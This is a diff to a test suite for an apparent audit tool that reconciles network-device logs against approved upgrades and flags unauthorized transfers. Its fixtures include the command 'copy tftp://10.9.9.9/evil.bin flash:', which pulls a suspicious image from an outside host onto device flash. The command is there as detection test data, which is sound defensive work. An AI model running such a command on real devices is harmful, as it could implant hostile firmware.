@@ -62,7 +62,7 @@ describe('reconcile: the approved upgrade and its negative cases', () => {
     const events = [
       ev({ ts: IN_WINDOW, kind: 'transfer', actor: 'bob', command: 'copy tftp://10.9.9.9/evil.bin flash:', file: 'evil.bin', protocol: 'tftp' }),
       ev({ ts: IN_WINDOW, kind: 'reload', actor: 'mallory', command: 'reload' }),
-      ev({ ts: IN_WINDOW, kind: 'reload', actor: null, command: 'reload' }),
+      ev({ ts: '2026-12-05T01:30:00.000Z', kind: 'reload', actor: null, command: 'reload' }),
       ev({ ts: IN_WINDOW, kind: 'reload', actor: 'alice', command: 'reload' }),
     ];
     const r = await reconcile(input({ events }));
@@ -80,6 +80,21 @@ describe('reconcile: the approved upgrade and its negative cases', () => {
         expect.stringMatching(/alice \(account "alice"\) is not the executor svc-imagegate/),
       ]),
     );
+  });
+
+  it('one act logged by TACACS+, syslog and the TFTP server is one finding with every line as evidence', async () => {
+    const at = '2026-12-06T10:00:00.000Z';
+    const events = [
+      ev({ ts: at, kind: 'transfer', actor: 'bob', command: 'copy tftp://10.9.9.9/evil.bin flash:', file: 'evil.bin', protocol: 'tftp', source: { path: 'tacacs.acct', line: 3, format: 'tacacs' } }),
+      ev({ ts: '2026-12-06T10:00:01.000Z', kind: 'transfer', actor: null, host: '10.9.9.9', file: 'evil.bin', protocol: 'tftp', source: { path: 'tftpd.log', line: 9, format: 'tftpd-hpa' } }),
+    ];
+    const r = await reconcile(input({ events }));
+    const t = byRule(r.findings, 'unauthorized-transfer');
+    expect(t).toHaveLength(1);
+    expect(t[0]?.evidence.map((e) => (e.kind === 'log' ? e.path : ''))).toEqual(['tacacs.acct', 'tftpd.log']);
+    // reversed file order, same finding
+    const again = await reconcile(input({ events: events.slice().reverse() }));
+    expect(byRule(again.findings, 'unauthorized-transfer')[0]?.fingerprint).toBe(t[0]?.fingerprint);
   });
 
   it('says "no authorization" for a device with none, and judges withdrawn authorizations as such', async () => {
